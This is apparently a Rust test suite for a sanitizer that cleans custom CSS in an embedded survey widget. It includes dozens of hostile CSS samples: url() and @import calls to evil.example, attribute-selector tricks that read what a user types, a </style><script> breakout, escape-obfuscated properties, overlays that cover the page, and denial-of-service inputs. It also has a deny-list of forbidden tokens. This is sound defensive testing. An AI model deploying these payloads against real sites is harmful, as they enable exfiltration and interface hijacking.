//! Style sheets of a site that try to reach the network, to leave the widget, or to hide what must be seen: what is delivered has
//! none of it. And one that means well, of which everything is.

#![allow(clippy::unwrap_used)]

use std::time::{Duration, Instant};

use proptest::prelude::*;
use survey::theme::MAX_CSS;
use survey::theme::custom_css::{Cleaned, clean};

/// What never stands in what is delivered, in whatever case.
const POISON: &[&str] = &[
    "url",
    "src(",
    "image-set",
    "image(",
    "cross-fade",
    "element(",
    "paint(",
    "attr(",
    "env(",
    "expression",
    "evil",
    "http",
    "//",
    "@import",
    "@font-face",
    "@charset",
    "@namespace",
    "@keyframes",
    "@property",
    "@layer",
    "@supports",
    "@container",
    "@scope",
    "@page",
    "position:",
    "inset",
    "z-index",
    "transform:",
    "display",
    "visibility",
    "pointer-events",
    "cursor",
    "animation",
    "filter",
    "clip",
    "mask",
    "behavior",
    "binding",
    "float",
    ":host",
    ":root",
    "::part",
    "::slotted",
    ":has",
    ":not",
    ":is(",
    "backdrop",
    "[",
    "]",
    "*",
    "#title",
    "<",
    "\\",
    "\0",
    "javascript",
    "!important",
    "/*",
    "--x",
    "calc",
    "pagepoll",
    "counter",
    "all:",
    "zoom",
    "float",
    "overflow",
    "html",
    ":visited",
    ":target",
    "view-transition",
    "selection",
    "anchor",
];

/// The same, where any word may stand in a value, as a colour that no browser knows.
const STRUCTURE: &[&str] = &[
    "url(",
    "src(",
    "image(",
    "attr(",
    "env(",
    "expression(",
    "calc(",
    "@import",
    "@font",
    "@charset",
    "position:",
    ":host",
    ":root",
    ":has",
    "[",
    "*",
    "#title",
    "<",
    "\\",
    "\0",
    "!",
    "--x",
];

#[track_caller]
fn assert_harmless(attempt: &str) -> Cleaned {
    assert_without(POISON, attempt)
}

#[track_caller]
fn assert_without(poison: &[&str], attempt: &str) -> Cleaned {
    let cleaned = clean(attempt);
    let folded = cleaned.css.to_ascii_lowercase();
    for poison in poison {
        assert!(!folded.contains(poison), "{attempt:?}\n  became {:?}\n  with {poison:?} in it", cleaned.css);
    }
    let braces = |sign: char| cleaned.css.chars().filter(|c| *c == sign).count();
    assert_eq!(braces('{'), braces('}'), "{attempt:?} became {:?}", cleaned.css);
    assert_eq!(clean(&cleaned.css), Cleaned { css: cleaned.css.clone(), dropped: Vec::new() }, "from {attempt:?}");
    cleaned
}

/// Everything in these is poison: nothing is left of them, and something is said.
const ATTEMPTS: &[&str] = &[
    // To the network.
    ".card { background: url(https://evil.example/a) }",
    ".card { background: URL(\"https://evil.example/a\") }",
    ".card { background: \\75rl(https://evil.example/a) }",
    ".card { background: \\000075\\000072\\00006c(https://evil.example/a) }",
    ".card { background: u\\72 l('//evil.example') }",
    ".card { background: url(https://evil.example/a",
    ".card { background: url( 'evil' 'evil' ) }",
    ".card { background: src(\"https://evil.example\") }",
    ".card { background: image(\"https://evil.example\") }",
    ".card { background: image-set(\"https://evil.example/a.png\" 1x) }",
    ".card { background: -webkit-image-set(url(evil) 1x) }",
    ".card { background: -webkit-cross-fade(url(evil), url(evil), 50%) }",
    ".card { background: cross-fade(20% red, url(evil)) }",
    ".card { background: linear-gradient(red, url(evil)) }",
    ".card { background: linear-gradient(image-set('evil' 1x), red) }",
    ".card { background: -moz-element(#title) }",
    ".card { background: element(#title) }",
    ".card { background: paint(evil) }",
    ".card { background-color: rgb(from url(evil) r g b) }",
    ".card { color: color-mix(in srgb, red, attr(value)) }",
    ".card { fill: url(#evil) }",
    ".card { cursor: url(https://evil.example/c.cur), auto }",
    ".card { list-style: url(evil) }",
    ".card { border-image: url(evil) 30 }",
    ".card { border-image-source: url(evil) }",
    ".card { mask: url(evil) }",
    ".card { filter: url(evil#x) }",
    ".card { clip-path: url(#evil) }",
    ".card { shape-outside: url(evil) }",
    ".card { offset-path: url(evil) }",
    ".point::before { content: url(evil) }",
    ".point::before { content: attr(value) }",
    ".point::before { content: 'Send money to evil' }",
    ".point::before { content: counter(evil) }",
    "@import 'https://evil.example/a.css';",
    "@IMPORT url(https://evil.example/a.css);",
    "@\\69mport url(//evil.example);",
    "@charset \"utf-7\"; @import 'evil';",
    "@namespace evil url(http://evil.example);",
    "@font-face { font-family: evil; src: url(https://evil.example/f.woff2); unicode-range: U+41 }",
    "@property --x { syntax: '<url>'; inherits: true; initial-value: url(evil) }",
    "@layer evil { .card { background: url(evil) } }",
    "@supports (display: grid) { .card { position: fixed } }",
    "@container (width > 1px) { .card { color: red } }",
    "@keyframes evil { from { background: url(evil) } }",
    "@document url(http://evil.example) { .card { color: red } }",
    "@media screen and (background: url(evil)) { .card { color: red } }",
    "@media (width: expression(evil)) { .card { color: red } }",
    "@media url(evil) { .card { color: red } }",
    "@media screen { @import 'evil'; }",
    "@media screen { @media screen { .card { color: red } } }",
    // What was typed.
    "input[value^='a'] { color: red }",
    ".field[value='a'] { background: url(//evil.example/a) }",
    "[value] { color: red }",
    ".field:placeholder-shown { color: red }",
    ".field:valid { color: red }",
    ".card:has(:checked) { color: red }",
    ".card:not([value=a]) { color: red }",
    ".card:is(:root) { color: red }",
    ".choice::selection { color: red }",
    // Out of the widget.
    ":host { color: red }",
    ":host(.evil) .card { color: red }",
    ":host-context(body) .card { color: red }",
    ":root { color: red }",
    "html, body { color: red }",
    "* { color: red }",
    ".card * { color: red }",
    "pagepoll-survey { color: red }",
    "::part(card) { color: red }",
    "::slotted(a) { color: red }",
    "dialog::backdrop { color: red }",
    "::view-transition { color: red }",
    ".card { position: fixed; inset: 0; z-index: 2147483647 }",
    ".card { p\\6fsition: fixed }",
    ".card { POSITION: FIXED !IMPORTANT }",
    ".card { position/**/: fixed }",
    ".card { transform: scale(100) }",
    ".card { translate: 100vw; scale: 9; rotate: 3deg; zoom: 9 }",
    ".card { display: none }",
    ".card { visibility: hidden }",
    ".card { opacity: 0 }",
    ".card { opacity: .39 }",
    ".card { opacity: 39% }",
    ".card { opacity: calc(0) }",
    ".card { opacity: -1e-99 }",
    ".card { all: unset }",
    ".card { float: left; columns: 3; overflow: visible; contain: none }",
    ".card { pointer-events: none }",
    ".card { animation: enter 1s infinite }",
    ".card { margin: -9999px }",
    ".card { margin: 9999px }",
    ".card { margin: \\-3px }",
    ".card { color: \\-3px }",
    ".card { color: \\33 px }",
    ".card { margin: calc(-1px * 9999) }",
    ".card { margin: max(1px, -9999px) }",
    ".card { margin: 1e9em }",
    ".card { margin: 99vw }",
    ".card { width: 100vw }",
    ".card { width: 9999px }",
    ".card { height: 9999px; max-height: none; min-height: 100vh }",
    ".card { padding: env(safe-area-inset-top, 9999px) }",
    ".card { padding: var(--x) }",
    ".card { padding: var(--pp-space, 9999px) }",
    ".card { padding: var(--pp-space,) }",
    ".card { padding: var(--pp-hidden) }",
    ".card { --pp-space: 9999px }",
    ".card { --x: url(evil) }",
    ".card { font-size: 0 }",
    ".card { font-size: 400px }",
    ".card { font: 400px/1 serif }",
    ".card { font: 1px/200px serif }",
    ".card { text-indent: -9999px }",
    ".card { letter-spacing: 99em }",
    ".card { color: transparent }",
    ".card { box-shadow: 0 0 0 9999px black }",
    ".card { text-shadow: 500px 500px red }",
    ".card { border: 9999px solid red }",
    ".card { outline: none }",
    ".card { outline: 0 }",
    ".card { outline-width: 0 }",
    ".card { outline-color: transparent }",
    ".card { transition: all 9999s }",
    ".card { background: expression(alert('evil')) }",
    ".card { behavior: url(evil.htc) }",
    ".card { -moz-binding: url(evil.xml#x) }",
    ".card { width: 1px\\9; background: javascript:evil }",
    // Out of the declaration, the rule, the style sheet, the page.
    ".card { font-family: '</style><script>evil()</script>' }",
    ".card { font-family: \"a\\\"; position: fixed; b: \\\"\" }",
    ".card { font-family: 'a\n; position: fixed }",
    ".card { color: re\\64 ; } } :host { position: fixed }",
    "</style><script>evil()</script>",
    "<!-- :host { position: fixed } -->",
    "--> :host { position: fixed } <!--",
    "} :host { position: fixed } .card {",
    ".card { } } * { position: fixed }",
    ".card { ; position: fixed; }",
    ".card { & { position: fixed } }",
    ".card { :host & { color: red } }",
    ".card { .point { position: fixed } }",
    ".card { @media screen { position: fixed } }",
    ".card { color: { position: fixed } }",
    ".card { color: red; }; :host { position: fixed }".split_at(20).1,
    "\u{feff}@charset 'evil';",
    "\0:host { position: fixed }",
    ".card { pos\0ition: fixed }",
    "/* .card { color: red } */ :host { position: fixed } /*",
    "/*/ .card { */ * { position: fixed } /* } */",
    ".ca\\72 d-evil { color: red }",
    "#title { color: red }",
    ".card || .point { color: red }",
    "evil|.card { color: red }",
    ".card > > .point { color: red }",
    "> .card { color: red }",
    ".card > { color: red }",
    ".card::before::after { color: red }",
    ".card::before .point { color: red }",
    "@media { .card { position: fixed } }",
    ".card { background: lin//evil }",
    ".card { background: , red }",
    ".card { background: red / }",
];

#[test]
fn nothing_is_left_of_an_attempt_but_word_of_it() {
    assert!(ATTEMPTS.len() >= 40, "{} attempts", ATTEMPTS.len());
    for attempt in ATTEMPTS {
        let cleaned = assert_harmless(attempt);
        assert!(cleaned.css.is_empty() || cleaned.css == ".card{color:red}", "{attempt:?} became {:?}", cleaned.css);
        assert!(!cleaned.dropped.is_empty(), "{attempt:?} was dropped without a word");
    }
}

#[test]
fn what_stands_beside_an_attempt_is_kept() {
    let kept = [
        (".card { position: fixed; color: red; background: url(evil) }", ".card{color:red}"),
        (".card, :host { color: red }", ".card{color:red}"),
        (".card { color: red !important }", ".card{color:red}"),
        ("@import 'evil'; .card { color: red }", ".card{color:red}"),
        (":host { color: blue } .card { color: red }", ".card{color:red}"),
        (".card { .point { color: blue } color: red }", ".card{color:red}"),
        ("<!-- .card { color: red } -->", ".card{color:red}"),
        (".card { c\\6f lor: r\\65 d }", ".card{color:red}"),
        (".card { color: red", ".card{color:red}"),
        ("@media screen { :host { color: blue } .card { color: red } }", "@media screen{.card{color:red}}"),
    ];
    for (attempt, left) in kept {
        assert_eq!(clean(attempt).css, left, "{attempt}");
        assert_harmless(attempt);
    }
}

#[test]
fn a_style_sheet_that_means_well_is_delivered_whole() {
    let written = "
        /* Fernhill */
        .card { padding: 24px 1.5em; border: 2px solid #0a7d33; border-radius: 0; box-shadow: 0 2px 8px rgb(0 0 0 / 20%) }
        h2 { font: italic 600 18px/1.3 Georgia, 'PT Serif', serif; letter-spacing: -.01em }
        .scale > .point:hover, .point:focus-visible { background: linear-gradient(90deg, #fff 0%, var(--pp-accent-soft)); color: var(--pp-ink) }
        .send { text-transform: uppercase; transition: background-color .2s ease-out, color 100ms cubic-bezier(.2, 0, 0, 1); min-height: 48px }
        .field::placeholder { color: color-mix(in oklab, var(--pp-ink) 60%, white); opacity: 1 }
        .choice + .choice { margin-top: 8px }
        .point::before { content: ''; width: 100%; border-bottom: 1px dashed currentColor }
        @media (max-width: 480px) and (prefers-color-scheme: dark) { .card { background-color: hsl(210deg 20% 12%) } }
        .ends p:first-child { text-align: end; line-height: 1.6; outline: 2px solid Highlight }
    ";
    let delivered = concat!(
        ".card{padding:24px 1.5em;border:2px solid #0a7d33;border-radius:0;box-shadow:0 2px 8px rgb(0 0 0/20%)}",
        "h2{font:italic 600 18px/1.3 Georgia,\"PT Serif\",serif;letter-spacing:-0.01em}",
        ".scale>.point:hover,.point:focus-visible{background:linear-gradient(90deg,#fff 0%,var(--pp-accent-soft));color:var(--pp-ink)}",
        ".send{text-transform:uppercase;transition:background-color 0.2s ease-out,color 100ms cubic-bezier(0.2,0,0,1);min-height:48px}",
        ".field::placeholder{color:color-mix(in oklab,var(--pp-ink) 60%,white);opacity:1}",
        ".choice+.choice{margin-top:8px}",
        ".point::before{content:\"\";width:100%;border-bottom:1px dashed currentcolor}",
        "@media (max-width:480px) and (prefers-color-scheme:dark){.card{background-color:hsl(210deg 20% 12%)}}",
        ".ends p:first-child{text-align:end;line-height:1.6;outline:2px solid highlight}",
    );
    assert_eq!(clean(written), Cleaned { css: delivered.to_owned(), dropped: Vec::new() });
}

#[test]
fn what_is_dropped_is_told_with_its_line_and_the_reason() {
    let cleaned =
        clean(".card {\n  color: red;\n  position:\n    fixed;\n}\n:host, .point { opacity: .1 }\n@import 'x';");
    let told: Vec<String> = cleaned.dropped.iter().map(|it| format!("{}: {}: {}", it.line, it.what, it.why)).collect();
    assert_eq!(
        told,
        [
            "3: position: fixed: this property is not for looks, or not for a site's style sheet",
            "6: :host: this pseudo-class or pseudo-element cannot be used",
            "6: opacity: .1: 0.1 is beyond 0.4 to 1",
            "7: @import 'x';: of at-rules there is only @media, once deep",
        ]
    );
}

#[test]
fn a_hostile_style_sheet_takes_no_time() {
    let hostile = [
        "{".repeat(MAX_CSS),
        "(".repeat(MAX_CSS),
        "a{b:".repeat(MAX_CSS / 4),
        ".card{color:rgb(".repeat(MAX_CSS / 16),
        format!(".card{{background:{}", "linear-gradient(".repeat(MAX_CSS / 17)),
        "@media(".repeat(MAX_CSS / 7),
        ",".repeat(MAX_CSS),
        ".card>".repeat(MAX_CSS / 6),
        "/*".repeat(MAX_CSS / 2),
        "\\".repeat(MAX_CSS),
        "\"\n".repeat(MAX_CSS / 2),
        "url(".repeat(MAX_CSS / 4),
        "x".repeat(MAX_CSS * 100),
    ];
    for css in hostile {
        let start = Instant::now();
        let cleaned = clean(&css);
        assert!(start.elapsed() < Duration::from_secs(1), "{:?} for {:?}…", start.elapsed(), &css[..20]);
        assert!(cleaned.css.is_empty() && cleaned.dropped.len() <= 100);
    }
}

/// Pieces that style sheets, and attempts, are made of.
fn any_piece() -> impl Strategy<Value = String> {
    let pieces: Vec<&str> = ".card,.point,h2,{,},(,),[,],:,;,::before,:hover,color,red,padding,4px,9999px,-3px,background,url(,evil,\
        linear-gradient(,rgb(,var(--pp-ink),var(--x),/*,*/,\",',\\,\\75rl(,@media,@import,screen,(max-width: 9px),!important,<!--,-->,\
        #fff,#title,*,>,+,~,&,/,50%,1e99,</style>,\0,\n, ,position,fixed,:host,content,font,serif,12px,opacity,1"
        .split(',')
        .collect();
    prop_oneof![4 => prop::sample::select(pieces).prop_map(str::to_owned), 1 => Just(",".to_owned()), 1 => "\\PC{1,3}"]
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(2_000))]

    #[test]
    fn whatever_is_written_what_is_delivered_is_harmless_and_stays_so(pieces in prop::collection::vec(any_piece(), 0..60)) {
        assert_without(STRUCTURE, &pieces.concat());
        assert_without(STRUCTURE, &pieces.join(" "));
        assert_without(STRUCTURE, &format!(".card{{color:{}}}", pieces.concat()));
        assert_without(STRUCTURE, &format!(".card{{font:{}}}", pieces.join(" ")));
    }
}
